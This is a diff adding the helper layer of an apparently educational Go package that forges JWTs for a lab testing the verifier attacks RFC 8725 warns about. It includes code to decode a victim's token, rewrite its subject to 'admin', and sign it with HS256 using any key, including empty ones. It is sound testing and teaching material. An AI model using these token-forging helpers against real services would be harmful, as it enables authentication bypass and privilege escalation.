@@ -1,0 +1,121 @@
+// Package attack builds the tokens of the classic attacks on JWT
+// verifiers that RFC 8725 warns against, from a token the attacker holds:
+// alg "none", key confusion, kid injection, jku, x5u and jwk header keys,
+// psychic signatures, and a dictionary attack on a weak HMAC secret. The
+// attack lab throws them at deliberately naive endpoints and at the
+// strict server, and the same builders test a person's own API.
+package attack
+
+import (
+	"crypto/hmac"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"strings"
+)
+
+// ErrToken means the token to start from is not a compact JWS whose
+// header and claims are JSON objects.
+var ErrToken = errors.New("attack: need a compact JWS with a JSON header and claims")
+
+// Attack is one malicious token and how it was made.
+type Attack struct {
+	Name  string // the lab endpoint that makes the mistake, such as "none"
+	Label string // the variant, such as `alg "None"`
+	Token string
+	How   string // how the token was made, in a sentence
+}
+
+// victim is a token the attacker holds, decoded.
+type victim struct {
+	header, claims map[string]any
+	parts          []string
+}
+
+func decode(token string) (*victim, error) {
+	token = strings.TrimSpace(strings.TrimPrefix(strings.TrimSpace(token), "Bearer "))
+	parts := strings.Split(token, ".")
+	if len(parts) != 3 {
+		return nil, fmt.Errorf("%w: %d segments", ErrToken, len(parts))
+	}
+	v := &victim{parts: parts}
+	for i, dst := range []*map[string]any{&v.header, &v.claims} {
+		b, err := base64.RawURLEncoding.DecodeString(parts[i])
+		if err != nil {
+			return nil, fmt.Errorf("%w: %v", ErrToken, err)
+		}
+		if err := json.Unmarshal(b, dst); err != nil || *dst == nil {
+			return nil, fmt.Errorf("%w: segment %d is not a JSON object", ErrToken, i+1)
+		}
+	}
+	return v, nil
+}
+
+// header returns a copy of the victim's header with changes applied; a
+// nil value deletes the member.
+func (v *victim) headerWith(changes map[string]any) map[string]any {
+	return with(v.header, changes)
+}
+
+// escalated returns the victim's claims as an attacker would change them:
+// sub becomes "admin".
+func (v *victim) escalated() map[string]any {
+	return with(v.claims, map[string]any{"sub": "admin"})
+}
+
+func with(m, changes map[string]any) map[string]any {
+	out := make(map[string]any, len(m)+len(changes))
+	for k, val := range m {
+		out[k] = val
+	}
+	for k, val := range changes {
+		if val == nil {
+			delete(out, k)
+			continue
+		}
+		out[k] = val
+	}
+	return out
+}
+
+// SigningInput is the JWS Signing Input (RFC 7515 §5.1) of a header and
+// claims: their JSON, each base64url-encoded, joined by a dot.
+func SigningInput(header, claims map[string]any) (string, error) {
+	h, err := json.Marshal(header)
+	if err != nil {
+		return "", err
+	}
+	c, err := json.Marshal(claims)
+	if err != nil {
+		return "", err
+	}
+	return base64.RawURLEncoding.EncodeToString(h) + "." + base64.RawURLEncoding.EncodeToString(c), nil
+}
+
+// HMACSHA256 is HS256's MAC (RFC 7518 §3.2), with a key of any length:
+// the attacks need the short and empty keys a strict signer refuses.
+func HMACSHA256(key, input []byte) []byte {
+	m := hmac.New(sha256.New, key)
+	m.Write(input)
+	return m.Sum(nil)
+}
+
+// SignHS256 signs header and claims with HS256 and key, whatever its
+// length.
+func SignHS256(header, claims map[string]any, key []byte) (string, error) {
+	in, err := SigningInput(header, claims)
+	if err != nil {
+		return "", err
+	}
+	return in + "." + base64.RawURLEncoding.EncodeToString(HMACSHA256(key, []byte(in))), nil
+}
+
+func decodeSegment(s string) ([]byte, error) {
+	b, err := base64.RawURLEncoding.DecodeString(s)
+	if err != nil {
+		return nil, fmt.Errorf("%w: %v", ErrToken, err)
+	}
+	return b, nil
+}
